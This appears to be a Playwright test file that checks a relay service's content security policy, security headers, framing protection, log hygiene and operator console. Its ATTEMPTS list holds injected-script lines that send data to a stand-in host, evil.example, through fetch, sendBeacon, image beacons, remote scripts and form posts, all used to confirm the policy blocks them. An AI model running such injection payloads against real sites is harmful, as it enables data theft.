import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { findBrowser, openBrowser } from "../open-browser.ts";
import { MASTER_TOKEN, startRelayProcess, type RelayProcess } from "../start-relay-process.ts";
import { createConsoleLink, openConsole } from "./world/watched-page.ts";

const executablePath = findBrowser();

const POLICY = [
  "base-uri 'none'",
  "default-src 'none'",
  "font-src 'self'",
  "form-action 'none'",
  "frame-ancestors 'none'",
  "img-src 'self'",
  "require-trusted-types-for 'script'",
  "script-src 'self'",
  "style-src 'self'",
  "worker-src 'self'",
];
const READS_RELAY = ["connect-src 'self'", "trusted-types 'none'"];

/** The pages, each with the directives that its policy adds to the common one. */
const PAGES = [
  ["/", ["connect-src 'none'", "trusted-types 'none'"]],
  ["/verify", ["connect-src 'none'", "trusted-types verify-worker"]],
  ["/log", READS_RELAY],
  ["/console", READS_RELAY],
  ["/console/me", READS_RELAY],
] as const;

const HEADERS = {
  "x-content-type-options": "nosniff",
  "referrer-policy": "no-referrer",
  "cross-origin-opener-policy": "same-origin",
  "cross-origin-resource-policy": "same-origin",
  "access-control-allow-origin": null,
  "set-cookie": null,
};

/** Attempts of an injected script, each with the directive that must stop it. */
const ATTEMPTS = [
  ["connect-src", "void fetch('https://evil.example/').catch(() => 0)"],
  ["connect-src", "navigator.sendBeacon('https://evil.example/', 'secret')"],
  ["img-src", "new Image().src = 'https://evil.example/?secret'"],
  ["require-trusted-types-for", "add('script', { src: 'https://evil.example/a.js' })"],
  ["style-src-elem", "add('style', { textContent: '* { color: red }' })"],
  ["style-src-elem", "add('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' })"],
  ["style-src-attr", "document.body.setAttribute('style', 'color: red')"],
  ["require-trusted-types-for", "document.body.setAttribute('onclick', 'document.title = 1')"],
  ["frame-src", "add('iframe', { src: 'https://evil.example/' })"],
  ["base-uri", "add('base', { href: 'https://evil.example/' })"],
  ["form-action", "add('form', { action: 'https://evil.example/', method: 'post' }).submit()"],
  ["require-trusted-types-for", "document.body.innerHTML = '<img src=x>'"],
] as const;

/** Runs an attempt inside a page, and returns the violated directives. */
const readViolations = (page: Page, attempt: string) =>
  page.evaluate<string[]>(`new Promise((resolve) => {
    const violated = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      violated.push(event.effectiveDirective);
      resolve(violated);
    });
    // A script's address is one more thing that Trusted Types refuse, so that it is set without it.
    const add = (name, members) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(members)) {
        try { element[key] = value; } catch { return element; }
      }
      return document.head.appendChild(element);
    };
    try { ${attempt}; } catch { /* The refusal is also reported as an event. */ }
  })`);

describe.skipIf(executablePath === undefined)(
  "The pages under attack",
  { timeout: 120_000 },
  () => {
    let browser: Browser;
    let relay: RelayProcess;
    const watch = { messages: [] as string[], requests: [] as string[] };
    /** The requests that left the browser; those that the policy stopped are not included. */
    const answered: string[] = [];

    beforeAll(async () => {
      relay = await startRelayProcess(undefined, { AGENT_RATE_LIMIT_SCALE: "0" });
      browser = await openBrowser(executablePath ?? "");
    }, 120_000);
    afterAll(async () => {
      await browser?.close();
      await relay?.stop();
    });

    async function openPage(path: string): Promise<{ page: Page; context: BrowserContext }> {
      const context = await browser.newContext();
      const page = await context.newPage();
      page.on("response", (response) => answered.push(response.url()));
      page.on("requestfailed", (request) => {
        if (request.failure()?.errorText !== "csp") answered.push(request.url());
      });
      await page.goto(relay.baseUrl + path);
      return { page, context };
    }

    it.each(PAGES)(
      "the page %s is sent with its content security policy and the other security headers",
      async (path, added) => {
        const { headers, status } = await fetch(relay.baseUrl + path, {
          headers: { accept: "text/html" },
        });
        expect(status).toBe(200);
        const policy = headers.get("content-security-policy")?.split("; ") ?? [];
        expect(policy.toSorted()).toEqual([...POLICY, ...added].toSorted());
        const others = Object.keys(HEADERS).map((name) => [name, headers.get(name)]);
        expect(Object.fromEntries(others)).toEqual(HEADERS);
        // Each listed feature is allowed for no origin.
        expect(headers.get("permissions-policy")).toMatch(/^[\w-]+=\(\)(, [\w-]+=\(\))*$/);
      },
    );

    it.each(PAGES)(
      "the content security policy stops every attempt of a stranger's script in %s",
      async (path) => {
        const { page, context } = await openPage(path);
        for (const [directive, attempt] of ATTEMPTS) {
          const [violated] = await readViolations(page, attempt);
          expect([attempt, violated]).toEqual([attempt, directive]);
        }
        expect(answered).toContain(relay.baseUrl + path);
        expect(answered.filter((url) => !url.startsWith(relay.baseUrl))).toEqual([]);
        await context.close();
      },
    );

    it.each(PAGES)("no other page may show %s in a frame", async (path) => {
      const { page, context } = await openPage("/openapi.json");
      // The same machine under another name is another origin; the answer used here has no policy.
      await page.goto(`${relay.baseUrl.replace("127.0.0.1", "localhost")}/openapi.json`);
      await page.evaluate(
        `new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.onload = frame.onerror = resolve;
        frame.src = ${JSON.stringify(relay.baseUrl + path)};
        document.body.append(frame);
      })`,
      );
      await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
      await context.close();
    });

    it("the log of the relay contains no code, token, bearer or cookie", async () => {
      const link = await createConsoleLink(relay.baseUrl);
      const { page, context } = await openPage("/verify");
      const bearers = new Set<string>();
      page.on("request", (request) => {
        const [, bearer] = /^Bearer (.+)$/.exec(request.headers()["authorization"] ?? "") ?? [];
        if (bearer !== undefined) bearers.add(bearer);
      });
      await page.goto(link);
      await page.waitForSelector("[data-live=live]");
      const [cookie] = await context.cookies();
      await page.reload();
      await page.waitForSelector("[data-live=live]");
      expect(bearers.size).toBeGreaterThan(0);
      const [, code = ""] = /#code=(.+)$/.exec(link) ?? [];
      for (const secret of [MASTER_TOKEN, code, cookie?.value ?? "", ...bearers]) {
        expect(secret.length).toBeGreaterThan(20);
        expect(relay.log()).not.toContain(secret);
      }
      await context.close();
    });

    it("the console asks for a reason before each action, and repeats an action with the same idempotency key", async () => {
      const options = { place: "#/money" };
      const { page, context } = await openConsole(browser, relay.baseUrl, watch, options);
      await page.click("text=Deposit");
      await page.fill("dialog [name=agent]", "01234567-89ab-7def-8123-456789abcdef");
      await page.fill("dialog [name=amount]", "1");
      await page.fill("dialog [name=reference]", "cash 2");
      await page.click("dialog [type=submit]");
      expect(await page.locator("dialog [name=reason]:invalid").count()).toBe(1);
      const keys: (string | null)[] = [];
      // The first answer is lost in transit, so the operator sends the request again.
      await page.route("**/deposit", async (route) => {
        keys.push(await route.request().headerValue("idempotency-key"));
        if (keys.length > 1) return route.continue();
        await route.fetch();
        return route.abort();
      });
      await page.fill("dialog [name=reason]", "paid at the desk");
      await page.click("dialog [type=submit]");
      await page.waitForSelector("dialog >> text=No agent has the id");
      await page.click("dialog [type=submit]");
      await page.waitForSelector("dialog [data-code='network.unreachable']");
      await page.click("dialog [type=submit]");
      await page.waitForSelector("dialog >> text=now has 1.00 USD");
      expect(keys.length).toBeGreaterThan(1);
      expect(new Set(keys).size).toBe(1);
      expect(keys[0]).toMatch(/^[\w-]{16,}$/);
      await context.close();
    });

    it("the console shows the sentence and code of a refusal and the id of the request", async () => {
      const options = { place: "#/tasks/01234567-89ab-7def-8123-456789abcdef" };
      const { page, context } = await openConsole(browser, relay.baseUrl, watch, options);
      const text = await page.locator("[data-code='task.not_found']").innerText();
      expect(text).toMatch(/\w+\.\s+code task\.not_found, request [\w-]{36}/);
      await context.close();
    });
  },
);
